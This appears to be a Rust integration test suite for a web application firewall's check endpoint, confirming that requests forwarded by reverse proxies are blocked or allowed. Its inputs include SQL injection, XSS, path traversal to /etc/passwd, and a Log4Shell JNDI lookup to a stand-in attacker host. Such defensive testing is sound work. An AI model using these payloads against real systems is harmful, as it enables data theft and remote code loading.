//! `/api/v1/check` as each reverse proxy calls it.

use reqwest::Method;

use crate::helpers::{spawn_app, spawn_with, test_settings};

#[tokio::test]
async fn proxies_get_allow_or_block_with_reasons() {
    let app = spawn_app().await;
    let key = app.api_key("edge-proxy", &["check"]).await;
    let check = |method: Method, path: &str| {
        app.client
            .request(method, app.url(path))
            .header("X-Api-Key", &key)
            // The protected application's own credential travels with the request.
            .header("Authorization", "Bearer app-session-token")
    };

    // nginx auth_request
    let r = check(Method::GET, "/api/v1/check")
        .header(
            "X-Original-URI",
            "/search?q=1'%20union%20select%20password%20from%20users--",
        )
        .header("X-Original-Method", "GET")
        .header("X-Real-IP", "203.0.113.9")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    assert_eq!(r.headers()["x-palisade-decision"], "block");
    assert!(!r.headers()["x-palisade-rules"].is_empty());
    let score: u32 = r.headers()["x-palisade-score"]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("n");
    assert!(score >= 5);
    let r = check(Method::GET, "/api/v1/check")
        .header("X-Original-URI", "/products/list?page=2&sort=price")
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        )
        .header("Host", "shop.example")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-palisade-decision"], "allow");

    // Traefik ForwardAuth / Caddy forward_auth
    let r = check(Method::GET, "/api/v1/check")
        .header("X-Forwarded-Method", "GET")
        .header(
            "X-Forwarded-Uri",
            "/comment?text=%3Cscript%3Ealert(1)%3C/script%3E",
        )
        .header("X-Forwarded-Host", "blog.example")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);

    // Envoy ext_authz (HTTP): the original path after the prefix, original method and body.
    let r = check(
        Method::GET,
        "/api/v1/check/files?name=../../../../etc/passwd",
    )
    .send()
    .await
    .expect("req");
    assert_eq!(r.status(), 403);
    let r = check(Method::POST, "/api/v1/check/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("user=admin'--&password=x")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403, "body inspected when the proxy forwards it");
    let r = check(Method::GET, "/api/v1/check/docs/getting-started?lang=en")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);

    // JSON form with a body.
    let r = app
        .client
        .post(app.url("/api/v1/check/request"))
        .header("X-Api-Key", &key)
        .json(&serde_json::json!({"method": "POST", "uri": "/api/orders", "headers": [["content-type", "application/json"], ["host", "x"]], "body": "{\"note\": \"${jndi:ldap://evil.example/a}\"}", "client_ip": "198.51.100.4"}))
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    let v: serde_json::Value = r.json().await.expect("json");
    assert_eq!(v["decision"], "block");
    assert!(v["rules"].as_array().is_some_and(|r| !r.is_empty()), "{v}");
    let r = app
        .client
        .post(app.url("/api/v1/check/request"))
        .header("X-Api-Key", &key)
        .json(&serde_json::json!({"method": "POST", "uri": "/api/orders", "headers": [["host", "x"]], "body": "{\"note\": \"please deliver after 5pm\"}"}))
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);

    // Credentials and scopes.
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Original-URI", "/")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 401);
    let ingest_only = app.api_key("shipper", &["ingest"]).await;
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Api-Key", ingest_only)
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    app.stop().await;
}

#[tokio::test]
async fn detect_mode_reports_without_blocking() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut settings = test_settings(&dir, None);
    settings.detection.mode = palisade_api::detection::Mode::Detect;
    let mut app = spawn_with(settings, dir).await;
    app.wait_ready().await;
    app.login_admin().await;
    let key = app.api_key("edge", &["check"]).await;
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Api-Key", key)
        .header("X-Original-URI", "/?id=1%20union%20select%201,2,3--")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-palisade-decision"], "detect");
    app.stop().await;
}
